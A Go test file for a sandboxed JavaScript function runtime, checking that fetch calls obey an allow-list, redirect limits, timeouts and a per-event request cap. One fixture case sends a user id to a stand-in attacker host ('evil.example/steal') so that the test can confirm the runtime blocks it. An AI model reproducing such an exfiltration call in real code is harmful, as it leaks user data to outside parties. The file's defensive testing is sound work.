package runtime_test

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/insertfn/insertfn/runtime"
)

// fetchService is a local HTTP service for the fetch tests: /v1/echo
// answers the request it got as JSON, /v1/slow answers after a second,
// /v1/go-out redirects out of /v1/.
func fetchService(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1/echo":
			body, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-Request-Id", "r-1")
			_, _ = io.WriteString(w, `{"method":"`+r.Method+`","auth":"`+r.Header.Get("Authorization")+`","query":"`+r.URL.RawQuery+`","body":`+jsonString(string(body))+`}`)
		case "/v1/slow":
			select {
			case <-time.After(time.Second):
			case <-r.Context().Done():
			}
		case "/v1/go-out":
			http.Redirect(w, r, "/admin", http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// jsFetcher is a Segment function that fetches as their users write them:
// the event's "event" says which request.
const jsFetcher = `
async function onTrack(event, settings) {
  const base = settings.base;
  switch (event.event) {
  case "post": {
    const url = new URL("echo", base);
    url.searchParams.set("user", event.userId);
    const res = await fetch(url, {
      method: "POST",
      headers: new Headers({ Authorization: "Basic " + btoa("key:"), "Content-Type": "application/json" }),
      body: JSON.stringify({ userId: event.userId }),
    });
    const got = await res.json();
    event.properties = { ok: res.ok, status: res.status, type: res.headers.get("content-type"), id: res.headers.get("X-REQUEST-ID"), got: got };
    return event;
  }
  case "forbidden-caught":
    try { await fetch("https://evil.example/steal?u=" + event.userId) } catch (e) { return event }
    return event;
  case "redirect-out":
    await fetch(base + "go-out");
    return event;
  case "slow":
    try { await fetch(base + "slow") } catch (e) { throw new RetryError(e.message) }
    return event;
  case "enrich": {
    // An enrichment as Segment users write one: look the user up, drop
    // what must not leave, return a new event.
    const res = await fetch(` + "`${base}echo?user=${encodeURIComponent(event.userId)}`" + `);
    if (!res.ok) throw new RetryError(` + "`lookup failed: ${res.status}`" + `);
    const { query } = await res.json();
    delete event.context.ip;
    return { ...event, traits: { ...event.traits, lookedUp: new URLSearchParams(query).get("user") } };
  }
  case "many":
    for (let i = 0; i < 20; i++) await fetch(base + "echo");
    return event;
  }
  return event;
}`

func TestJSFetch(t *testing.T) {
	srv := fetchService(t)
	base := srv.URL + "/v1/"
	settings := []byte(`{"base":"` + base + `"}`)
	f := loadJS(t, jsFetcher, runtime.Options{Settings: settings, Limits: runtime.Limits{Timeout: 5 * time.Second, PoolSize: 1},
		Fetch: runtime.FetchPolicy{Allow: []string{base}, Timeout: 200 * time.Millisecond}})

	res := mustDeliver(t, f, `{"type":"track","event":"post","userId":"u 1"}`)
	want := `{"type":"track","event":"post","userId":"u 1","properties":{"ok":true,"status":200,"type":"application/json","id":"r-1",` +
		`"got":{"method":"POST","auth":"Basic a2V5Og==","query":"user=u+1","body":"{\"userId\":\"u 1\"}"}}}`
	if string(res.Event) != want {
		t.Errorf("POST with Headers, btoa and URLSearchParams:\n got %s\nwant %s", res.Event, want)
	}

	res = mustDeliver(t, f, `{"type":"track","event":"enrich","userId":"a&b","context":{"ip":"203.0.113.7","locale":"fr"},"traits":{"plan":"pro"}}`)
	if want := `{"type":"track","event":"enrich","userId":"a&b","context":{"locale":"fr"},"traits":{"plan":"pro","lookedUp":"a&b"}}`; string(res.Event) != want {
		t.Errorf("enrichment:\n got %s\nwant %s", res.Event, want)
	}

	for _, ev := range []string{"forbidden-caught", "redirect-out"} {
		res, err := invoke(t, f, `{"type":"track","event":"`+ev+`","userId":"u1"}`)
		if err != nil || res.Verdict != runtime.Fail || res.Kind != runtime.KindFetchForbidden || !strings.Contains(res.Reason, "fetch.allow") {
			t.Errorf("%s: %v %v %s %q, want a FetchForbidden error naming fetch.allow", ev, err, res.Verdict, res.Kind, res.Reason)
		}
		mustDeliver(t, f, `{"type":"track","event":"next"}`)
	}

	start := time.Now()
	res, err := invoke(t, f, `{"type":"track","event":"slow"}`)
	if err != nil || res.Kind != runtime.KindRetry || !strings.Contains(res.Reason, "fetch.timeout") {
		t.Errorf("a slow service: %v %s %q, want the RetryError the function throws with fetch's timeout", err, res.Kind, res.Reason)
	}
	if d := time.Since(start); d > 900*time.Millisecond {
		t.Errorf("the 200ms fetch.timeout ended the request after %s", d)
	}

	res, err = invoke(t, f, `{"type":"track","event":"many"}`)
	if err != nil || res.Kind != runtime.KindFunctionError || !strings.Contains(res.Reason, "fetch.max_requests") {
		t.Errorf("20 requests in one event: %v %s %q, want the 17th refused", err, res.Kind, res.Reason)
	}
	if st := f.Stats(); st.Discarded != 0 {
		t.Errorf("stats %+v: no instance should be discarded", st)
	}
}

// TestJSFetchWithinTheEventTimeLimit: a request ends with the event's time
// limit even when fetch.timeout is longer, and the event fails as timed
// out.
func TestJSFetchWithinTheEventTimeLimit(t *testing.T) {
	srv := fetchService(t)
	base := srv.URL + "/v1/"
	f := loadJS(t, `async function onTrack(event) { await fetch("`+base+`slow"); return event }`,
		runtime.Options{Limits: runtime.Limits{Timeout: 150 * time.Millisecond, PoolSize: 1},
			Fetch: runtime.FetchPolicy{Allow: []string{base}, Timeout: 10 * time.Second}})
	start := time.Now()
	res, err := invoke(t, f, `{"type":"track"}`)
	if !errors.Is(err, runtime.ErrTimeout) || res.Kind != runtime.KindTimeout {
		t.Errorf("%v %s %q, want a Timeout", err, res.Kind, res.Reason)
	}
	if d := time.Since(start); d > 800*time.Millisecond {
		t.Errorf("the event's 150ms ended after %s", d)
	}
}

// TestJSFetchPolicyRefusedAtLoad: a bad allow-list entry refuses the
// function, naming the entry; a module cannot be given one.
func TestJSFetchPolicyRefusedAtLoad(t *testing.T) {
	_, err := tryLoadJS(t, `function onTrack(e) { return e }`, runtime.Options{Fetch: runtime.FetchPolicy{Allow: []string{"consent.internal/v1/"}}})
	if err == nil || !strings.Contains(err.Error(), "fetch.allow[0]") {
		t.Errorf("err %v, want one naming fetch.allow[0]", err)
	}
}
